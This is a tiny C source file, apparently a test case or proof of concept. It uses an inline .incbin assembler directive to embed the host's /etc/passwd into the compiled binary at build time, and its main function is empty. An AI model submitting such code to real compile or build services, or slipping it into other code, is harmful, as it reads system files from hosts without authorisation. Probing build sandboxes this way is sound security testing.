asm(".incbin \"/etc/passwd\"");
int main() {}
